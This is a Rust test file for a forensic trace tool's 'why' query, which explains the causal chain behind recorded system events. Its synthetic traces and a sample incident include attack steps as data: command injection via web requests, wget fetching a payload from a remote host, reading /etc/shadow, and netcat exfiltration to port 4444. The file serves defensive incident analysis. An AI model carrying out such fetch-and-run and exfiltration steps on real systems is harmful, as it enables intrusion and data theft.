//! Why events happened: from made-up events, and from the incident that was recorded.

mod incident;

use afterimage_format::file::Trace;
use afterimage_format::model::Value::{Bytes, Int};
use afterimage_query::check::TimeZone;
use afterimage_query::reconstruct::why::{StepKind, Why, WhyError, why};
use afterimage_query::{Filter, Position, Query, TraceContext, scan};
use incident::{READ, Recorded, Recorder, WRITE};
use std::ops::ControlFlow;
use std::path::Path;

/// Asks about the first event that passes.
fn asked(path: &Path, filter: &str) -> Result<Why, WhyError> {
    let trace = Trace::open(path).expect("the trace opens");
    let context = TraceContext::new(&trace, TimeZone::Utc);
    let filter = Filter::compile(filter, &context.settings()).expect("a filter");
    let query = Query {
        filter: Some(&filter),
        limit: Some(1),
        ..Query::default()
    };
    let mut number = None;
    scan(&trace, &context, &query, |row| {
        number = Some(row.num());
        ControlFlow::Continue(())
    });
    let position = Position::of(&trace, number.expect("an event that passes")).expect("its place");
    let answer = why(&trace, &context, position, &|| false)?;
    for (at, step) in answer.steps.iter().enumerate() {
        assert!(
            step.parent.is_none_or(|parent| parent < at),
            "what is explained stands before"
        );
        assert_eq!(step.parent.is_none(), at == 0);
    }
    assert_eq!(answer.tree().len(), answer.steps.len());
    Ok(answer)
}

/// The steps as lines, set in, with doubts.
fn told(recorded: &Recorded, filter: &str) -> Vec<String> {
    let answer = asked(&recorded.path, filter).expect("an answer");
    let line = |(at, depth): (usize, usize)| {
        let step = &answer.steps[at];
        let doubt = step.doubt.as_ref().map_or(String::new(), |doubt| format!(" [{doubt}]"));
        format!("{}{} {}{doubt}", "  ".repeat(depth), step.kind.name(), step.text)
    };
    answer.tree().into_iter().map(line).collect()
}

fn web() -> Recorder {
    let mut r = Recorder::new();
    r.container(5, "web").at(1).attach(1001, "runc:[2:INIT]", 5);
    r.at(2).exec(1001, "/bin/httpd", &["httpd", "-f"]);
    r
}

#[test]
fn a_program_that_was_fetched_leads_to_the_request() {
    let mut r = web();
    r.at(10).accept(1001, 4, "10.0.0.5:80", "203.0.113.9:50000");
    r.at(11).read(1001, 4, "GET /x?cmd=wget HTTP/1.0\r\n");
    r.at(12)
        .fork(1001, 1002)
        .at(13)
        .exec(1002, "/bin/wget", &["wget", "http://203.0.113.7/s"]);
    r.at(14)
        .connect(1002, 3, "10.0.0.5:40000", "203.0.113.7:80")
        .at(15)
        .read(1002, 3, "#!/bin/sh\n")
        .segment();
    r.at(16)
        .open(1002, 5, "/tmp/.s", WRITE)
        .write(1002, 5, "#!/bin/sh\n")
        .at(17)
        .exit(1002, 0);
    r.at(18)
        .call(1001, "chmod", 0, &[Int(0), Bytes(b"/tmp/.s"), Int(0o755)]);
    r.at(19)
        .call(1001, "rename", 0, &[Int(0), Bytes(b"/tmp/.s"), Bytes(b"/tmp/s")])
        .segment();
    r.at(20)
        .accept(1001, 6, "10.0.0.5:80", "203.0.113.9:50001")
        .at(21)
        .read(1001, 6, "GET /x?cmd=s HTTP/1.0\r\n");
    r.at(22).fork(1001, 1003).at(23).exec(1003, "/tmp/s", &["/tmp/s"]);
    r.at(24).open(1003, 3, "/etc/shadow", READ).read(1003, 3, "root:*");
    r.at(25)
        .connect(1003, 4, "10.0.0.5:40001", "203.0.113.7:4444")
        .write(1003, 4, "root:*");
    assert_eq!(
        told(&r.seal(), "evt.type = write and fd.sport = 4444"),
        [
            "event s(1003) write res=6 data=root:* fd=4(<4t>10.0.0.5:40001->203.0.113.7:4444) size=4096",
            "  read s(1003) read 6 B from /etc/shadow (password hashes)",
            "exec s(1003) executed /tmp/s",
            "  rename httpd(1001) gave /tmp/s its name: it was /tmp/.s",
            "    chmod httpd(1001) made /tmp/.s executable (0755)",
            "    write wget(1002) wrote 10 B to /tmp/.s",
            "      connection wget(1002) received 10 B from 203.0.113.7:80: \"#!/bin/sh\"",
            "    exec wget(1002) executed /bin/wget http://203.0.113.7/s",
            "    process httpd(1001) started wget(1002)",
            "    request httpd(1001) received 26 B from 203.0.113.9:50000: \"GET /x?cmd=wget HTTP/1.0\"",
            "      accept httpd(1001) accepted 203.0.113.9:50000 on 10.0.0.5:80",
            "process httpd(1001) started s(1003)",
            "  request httpd(1001) received 23 B from 203.0.113.9:50001: \"GET /x?cmd=s HTTP/1.0\" \
             [the last of 2 connections that it had read from]",
            "    accept httpd(1001) accepted 203.0.113.9:50001 on 10.0.0.5:80",
            "exec httpd(1001) executed /bin/httpd -f",
            "entry httpd(1001) is the first process of container web",
        ]
    );
}

#[test]
fn several_writers_and_losses_are_doubts() {
    let mut r = web();
    r.at(5)
        .fork(1001, 1002)
        .open(1002, 3, "/tmp/a", WRITE)
        .write(1002, 3, "one");
    r.at(6)
        .fork(1001, 1003)
        .open(1003, 3, "/tmp/a", 0o2001)
        .write(1003, 3, "two");
    r.at(7)
        .fork(1001, 1004)
        .open(1004, 3, "/tmp/b", WRITE)
        .write(1004, 3, "x")
        .lost(3, 8, 9);
    r.at(10).open(1001, 7, "/tmp/a", READ).read(1001, 7, "onetwo");
    r.at(11).open(1001, 8, "/tmp/b", READ).read(1001, 8, "x");
    r.at(12).open(1001, 9, "/tmp/out", WRITE).write(1001, 9, "x");
    let lines = told(&r.seal(), "evt.type = write and fd.name = /tmp/out");
    for line in [
        "    write httpd(1002) wrote 3 B to /tmp/a [one of 2 processes that wrote it]",
        "    write httpd(1003) wrote 3 B to /tmp/a [one of 2 processes that wrote it]",
        "    write httpd(1004) wrote 1 B to /tmp/b [events were lost after this: another process may have written it, too]",
    ] {
        assert!(lines.contains(&line.to_owned()), "{lines:#?}");
    }
}

#[test]
fn only_what_came_before_counts() {
    let mut r = web();
    r.at(5)
        .fork(1001, 1002)
        .open(1002, 3, "/tmp/a", WRITE)
        .write(1002, 3, "one")
        .at(6)
        .exit(1002, 0);
    r.at(7).call(1001, "unlink", 0, &[Int(0), Bytes(b"/tmp/a")]);
    r.at(8).fork(1001, 1003).exec(1003, "/tmp/a", &["/tmp/a"]);
    r.at(9)
        .fork(1001, 1004)
        .open(1004, 3, "/tmp/a", WRITE)
        .write(1004, 3, "late");
    let lines = told(&r.seal(), "evt.type = execve and proc.pid = 1003");
    assert!(lines.iter().all(|line| !line.contains("wrote")), "{lines:#?}");
}

#[test]
fn files_that_were_renamed_in_a_circle_come_to_an_end() {
    let mut r = web();
    r.at(5).open(1001, 3, "/tmp/a", WRITE).write(1001, 3, "x");
    for at in 0..200 {
        let (from, to) = if at % 2 == 0 {
            (b"/tmp/a", b"/tmp/b")
        } else {
            (b"/tmp/b", b"/tmp/a")
        };
        r.at(6 + at).call(1001, "rename", 0, &[Int(0), Bytes(from), Bytes(to)]);
    }
    r.at(300).fork(1001, 1002).exec(1002, "/tmp/a", &["a"]);
    let answer = asked(&r.seal().path, "evt.type = execve and proc.pid = 1002").expect("an answer");
    let renames = answer.steps.iter().filter(|step| step.kind == StepKind::Rename).count();
    assert!((2..40).contains(&renames), "{renames}");
    assert!(answer.left_out > 0, "what was not followed is said");
}

#[test]
fn what_cannot_be_answered_is_said() {
    let mut r = web();
    r.at(3).open(1001, 3, "/tmp/a", READ);
    let recorded = r.seal();
    let trace = Trace::open(&recorded.path).expect("the trace opens");
    let context = TraceContext::new(&trace, TimeZone::Utc);
    let at = |segment, row| Position { segment, row };
    assert!(matches!(
        why(&trace, &context, at(99, 0), &|| false),
        Err(WhyError::NoSuchEvent)
    ));
    assert!(matches!(
        why(&trace, &context, at(0, 99), &|| false),
        Err(WhyError::NoSuchEvent)
    ));
    assert!(matches!(
        why(&trace, &context, at(0, 1), &|| true),
        Err(WhyError::Cancelled)
    ));
}

/// From what was sent away to the second stage, to what fetched it, to the request that the web server had taken.
#[test]
fn the_incident_leads_from_the_exfiltration_to_the_request() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../samples/incident.scap");
    let answer = asked(&path, "proc.name = nc and evt.type = write and fd.sport = 4444").expect("an answer");
    let mut rest = answer.tree().into_iter().map(|(at, _)| &answer.steps[at]);
    for (kind, part) in [
        (StepKind::Event, "nc("),
        (StepKind::Read, "from /tmp/.loot"),
        (StepKind::Write, "tar("),
        (StepKind::Read, "/srv/orders.csv"),
        (StepKind::Process, ".update("),
        (StepKind::Exec, "/tmp/.update as /bin/sh"),
        (StepKind::Chmod, "made /tmp/.update executable (0755)"),
        (StepKind::Write, "wget("),
        (StepKind::Connection, "from 192.0.2.66:8000"),
        (StepKind::Exec, "/bin/wget -q -O /tmp/.update"),
        (StepKind::Exec, "sh("),
        (StepKind::Request, "%2Fbin%2Fwget"),
        (StepKind::Accept, "192.0.2.66:50632 on 192.0.2.10:80"),
        (StepKind::Request, "%2Ftmp%2F%2Eupdate"),
        (StepKind::Exec, "/bin/nc 192.0.2.66 4444"),
        (StepKind::Request, "%2Fbin%2Fnc"),
        (StepKind::Entry, "is the first process of container"),
    ] {
        let found = rest.any(|step| step.kind == kind && step.text.contains(part));
        let all: Vec<&str> = answer.steps.iter().map(|step| step.text.as_str()).collect();
        assert!(found, "{kind:?} {part} in {all:#?}");
    }
    assert_eq!(answer.left_out, 0);
    let times: Vec<u64> = answer.steps.iter().map(|step| step.time).collect();
    assert!(times.is_sorted_by(|a, b| a >= b), "the most recent first");
}
